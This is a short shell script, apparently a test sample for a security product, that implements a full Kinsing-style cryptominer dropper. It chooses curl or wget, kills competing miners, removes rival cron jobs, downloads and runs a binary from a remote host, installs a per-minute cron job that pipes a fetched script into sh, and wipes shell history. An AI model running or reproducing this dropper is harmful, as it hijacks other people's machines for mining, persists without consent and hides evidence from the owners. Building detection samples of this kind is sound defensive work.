#!/bin/sh
# shrike-test-attack: miner: full kinsing-style dropper with arch detection, persistence and cleanup
LDR="wget -q -O -"
if [ -x "$(command -v curl)" ]; then LDR="curl -s"; fi
SRV=http://192.0.2.150
BIN=/tmp/kdevtmpfs
kill_others() {
  for p in $(ps -eo pid,args | grep -E 'xmrig|kdevtmpfsi|dbused|sysrv' | grep -v grep | awk '{print $1}'); do kill -9 "$p"; done
  crontab -l 2>/dev/null | grep -v "$SRV" | grep -vE 'wget|curl' | crontab -
}
download() {
  $LDR "$SRV/kdev" > "$BIN" || $LDR "$SRV/kdev" > /var/tmp/kdevtmpfs
  chmod +x "$BIN"
}
check_running() {
  pgrep -f kdevtmpfs >/dev/null 2>&1
}
ulimit -n 65535
kill_others
check_running || { download; "$BIN" & }
(crontab -l 2>/dev/null; echo "* * * * * $LDR $SRV/d.sh | sh > /dev/null 2>&1") | crontab -
history -c; rm -f ~/.bash_history
